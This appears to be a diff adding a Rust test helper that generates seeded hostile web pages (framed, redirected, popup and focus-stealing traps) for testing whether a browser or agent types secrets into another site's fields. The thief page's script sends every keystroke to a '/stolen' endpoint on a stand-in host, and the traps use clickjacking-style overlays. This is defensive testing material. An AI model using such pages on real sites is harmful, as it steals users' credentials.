@@ -1,0 +1,93 @@
+//! A hostile web site, drawn from a seed: pages that lure secrets, clicks and visits to where they do not belong.
+
+#![allow(dead_code, reason = "each test file uses only some helpers")]
+
+use super::TestPageServer;
+
+/// A generator of numbers from a seed (SplitMix64).
+pub(crate) struct SeededNumbers(pub(crate) u64);
+
+impl SeededNumbers {
+    pub(crate) fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut mixed = self.0;
+        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        mixed ^ (mixed >> 31)
+    }
+
+    pub(crate) fn pick<'a, T>(&mut self, choices: &'a [T]) -> &'a T {
+        &choices[(self.next() % choices.len() as u64) as usize]
+    }
+
+    pub(crate) fn below(&mut self, limit: u64) -> u64 {
+        self.next() % limit
+    }
+}
+
+/// A trap for a secret: a page on which the focus ends in a field of another site than it seems.
+#[derive(Clone, Debug)]
+pub(crate) struct SecretTrap {
+    pub(crate) name: &'static str,
+    /// URL of the page that the trap begins on. Its host is the one that the secret is for.
+    pub(crate) url: String,
+}
+
+/// The names of the traps for secrets.
+pub(crate) const SECRET_TRAPS: [&str; 7] =
+    ["frame", "nested frame", "redirect", "link", "focus thief", "popup", "srcdoc sandbox"];
+
+/// The field of the thief: it reports all input to the thief's server.
+fn thief_field(numbers: &mut SeededNumbers) -> String {
+    let kind = numbers.pick(&["text", "password", "search", "email"]);
+    let delay = numbers.below(50);
+    format!(
+        "<style>body{{margin:0}}</style><input id=field autofocus type={kind} \
+         style='position:absolute;left:40px;top:40px;width:300px;height:30px'><script>\
+         addEventListener('input', () => fetch('/stolen?' + encodeURIComponent(field.value)));\
+         setTimeout(() => field.focus(), {delay});</script>"
+    )
+}
+
+/// Adds a trap to a server. The thief is the other host name of the server.
+pub(crate) fn add_secret_trap(
+    pages: &TestPageServer,
+    numbers: &mut SeededNumbers,
+    name: &'static str,
+) -> SecretTrap {
+    pages.add("thief", &thief_field(numbers));
+    let thief = pages.other_site_url("thief");
+    let frame = |src: &str| {
+        format!(
+            "<iframe style='position:absolute;left:0;top:0;border:0;width:800px;height:600px' {src}></iframe>"
+        )
+    };
+    let title = numbers.pick(&["Sign in", "Your account", "Bank"]).to_owned();
+    let own = "<input id=own style='position:absolute;left:40px;top:40px;width:300px;height:30px'>";
+    let body = match name {
+        "frame" => frame(&format!("src='{thief}'")),
+        "nested frame" => {
+            pages.add("middle", &frame(&format!("src='{thief}'")));
+            frame("src='/middle'")
+        }
+        "redirect" => format!("{own}<script>own.onclick = () => location.href = '{thief}'</script>"),
+        "link" => format!(
+            "<a href='{thief}' style='position:absolute;left:0;top:0;width:400px;height:200px'>{title}</a>"
+        ),
+        "focus thief" => format!(
+            "{own}{}<script>own.onfocus = () => setTimeout(() => document.querySelector('iframe').focus(), {})</script>",
+            frame(&format!("src='{thief}'")).replace("left:0;top:0", "left:0;top:300px"),
+            numbers.below(30)
+        ),
+        "popup" => format!(
+            "{own}<script>own.onclick = () => window.open('{thief}', '_blank', 'width=800,height=600')</script>"
+        ),
+        "srcdoc sandbox" => {
+            let field =
+                "<input autofocus style=position:absolute;left:40px;top:40px;width:300px;height:30px>";
+            frame(&format!("sandbox='allow-scripts' srcdoc='{field}'"))
+        }
+        other => panic!("there is no trap {other}"),
+    };
+    SecretTrap { name, url: pages.add("bank", &format!("<h1 style='margin:0'>{title}</h1>{body}")) }
+}
